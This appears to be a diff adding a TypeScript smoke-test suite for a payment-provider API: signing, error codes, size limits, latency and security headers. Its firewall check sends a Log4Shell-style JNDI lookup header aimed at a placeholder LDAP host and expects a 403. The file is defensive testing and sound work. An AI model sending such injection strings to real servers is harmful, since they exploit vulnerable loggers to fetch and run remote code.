@@ -1,0 +1,165 @@
+import { randomUUID } from "node:crypto";
+import { TppClient } from "../tpp/tpp-client.ts";
+import { ask, codeOf, messageOf, type Reply, refusalOf } from "./ask.ts";
+import { type Check, type Finding, fail, holds, nowhere, pass } from "./check.ts";
+import type { SmokeOptions } from "./options.ts";
+
+const mebibyte = 1_048_576;
+const calls = 20;
+
+/** One signed read: that it is accepted proves that Date and every other signed header arrive as they were sent. */
+export const signed: Check = async (options) => {
+  const { status, body } = await signedRead(options);
+  const detail = `GET ${options.path}: ${status} ${textOf(body)}`.trimEnd();
+  return holds({ accepted: status !== 400 && status < 500 }, detail);
+};
+
+export const requestId: Check = async (options) => {
+  const id = randomUUID();
+  const { headers } = await signedRead(options, { "x-request-id": id });
+  return holds({ "the same as sent": headers["x-request-id"] === id }, "X-Request-ID comes back");
+};
+
+/** What a refusal says. */
+const textOf = (body: { tppMessages?: { text: string }[] } | undefined): string =>
+  body?.tppMessages?.map(({ text }) => text).join(" ") ?? "";
+
+/** A request that reaches an operation, and is refused by it. */
+export const unsigned: Check = (options) =>
+  refusal(options, options.path, {}, 400, "HTTP_HEADER_REQUIRED");
+
+export const path: Check = (options) => refusal(options, nowhere, {}, 404, "NOT_FOUND");
+
+export const method: Check = async (options) => {
+  const reply = await send(options, options.path, { method: "PATCH" });
+  const { allow } = reply.headers;
+  return holds(
+    {
+      "status 405": reply.status === 405,
+      BAD_REQUEST: codeOf(reply) === "BAD_REQUEST",
+      Allow: !!allow,
+    },
+    `PATCH ${options.path}: ${reply.status}, Allow: ${allow}`,
+  );
+};
+
+/** More headers than API Gateway takes: it says so in words of its own, whatever is configured. */
+export const headers: Check = async (options) => {
+  const reply = await send(options, options.path, { headers: { "x-filler": "x".repeat(11_000) } });
+  const { status } = reply;
+  return holds({ "a 4xx": status >= 400 && status < 500 }, `11 kB of headers: ${status}`);
+};
+
+export const body: Check = async (options) => {
+  const post = (bytes: number) =>
+    send(options, options.path, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: Buffer.alloc(bytes, "x"),
+    });
+  const [over, huge] = [await post(mebibyte + 1), await post(10 * mebibyte + 1).catch(cutOff)];
+  return holds(
+    {
+      "413 above 1 MiB": over.status === 413,
+      "in the interface's form": codeOf(over) === "BAD_REQUEST",
+      "413 above 10 MiB": huge.status === 413,
+    },
+    `bodies of 1 and 10 MiB and a byte: ${over.status}, ${huge.status || huge.text}`,
+  );
+};
+
+/** A request that every firewall knows for an attack, and that is none. */
+export const firewall: Check = (options) =>
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
+  refusal(options, options.path, { "x-smoke": "${jndi:ldap://192.0.2.1/smoke}" }, 403, "FORBIDDEN");
+
+/** The first call may find no function running; the others should not. */
+export const speed: Check = async (options) => {
+  const tpp = new TppClient(options.api, options.identity);
+  const times: number[] = [];
+  try {
+    for (let call = 0; call < calls; call += 1) {
+      const started = performance.now();
+      const { status, body } = await tpp.call({
+        method: "GET",
+        path: options.path,
+        headers: options.headers,
+      });
+      if (status === 400 || status >= 500)
+        return fail(`call ${call + 1}: ${status} ${textOf(body)}`);
+      times.push(Math.round(performance.now() - started));
+    }
+  } finally {
+    tpp.close();
+  }
+  const sorted = times.toSorted((a, b) => a - b);
+  const at = (share: number) => sorted[Math.ceil(share * calls) - 1];
+  return pass(
+    `${calls} signed reads: p50 ${at(0.5)} ms, p95 ${at(0.95)} ms, the first, which may have had to start a function, ${times[0]} ms`,
+  );
+};
+
+const securityHeaders = {
+  "content-security-policy": /default-src 'none'.*frame-ancestors 'none'/,
+  "x-content-type-options": /^nosniff$/,
+  "x-frame-options": /^DENY$/,
+  "referrer-policy": /^same-origin$/,
+  "cache-control": /no-store/,
+  "strict-transport-security": /max-age=\d{8,}/,
+};
+
+/** What protects the PSU's browser, on a page of the site's and on one that is not there. */
+export const site: Check = async ({ site: address, identity: { ca } }) => {
+  const secure = address.startsWith("https:");
+  const wanted = Object.entries(securityHeaders).filter(
+    ([name]) => secure || name !== "strict-transport-security",
+  );
+  const missing: Record<string, boolean> = {};
+  for (const where of ["/s/no-such-link", "/no-such-page"]) {
+    const reply = await ask(address + where, { ca });
+    missing[`404 for ${where}`] = reply.status === 404;
+    for (const [name, value] of wanted)
+      missing[`${name} of ${where}`] = value.test(`${reply.headers[name] ?? ""}`);
+  }
+  const finding = holds(missing, "security headers of an unknown link and an unknown page");
+  return secure || finding.result === "fail"
+    ? finding
+    : pass(`${finding.detail}; HSTS only over TLS`);
+};
+
+function send(
+  { api, identity: { ca, web } }: SmokeOptions,
+  at: string,
+  options: Parameters<typeof ask>[1],
+) {
+  return ask(api + at, { ca, ...web, ...options });
+}
+
+/** A connection closed in the middle of a body is a refusal as well, though nothing says why. */
+function cutOff(error: unknown): Reply {
+  if (!refusalOf(error)) throw error;
+  return { status: 0, headers: {}, text: messageOf(error), protocol: null, validTo: undefined };
+}
+
+async function refusal(
+  options: SmokeOptions,
+  at: string,
+  headers: Record<string, string>,
+  status: number,
+  code: string,
+): Promise<Finding> {
+  const reply = await send(options, at, { headers });
+  return holds(
+    { [`status ${status}`]: reply.status === status, [code]: codeOf(reply) === code },
+    `GET ${at}: ${reply.status} ${codeOf(reply) ?? "in another form than tppMessages"}`,
+  );
+}
+
+async function signedRead({ api, identity, path: at, headers }: SmokeOptions, more = {}) {
+  const tpp = new TppClient(api, identity);
+  try {
+    return await tpp.call({ method: "GET", path: at, headers: { ...headers, ...more } });
+  } finally {
+    tpp.close();
+  }
+}
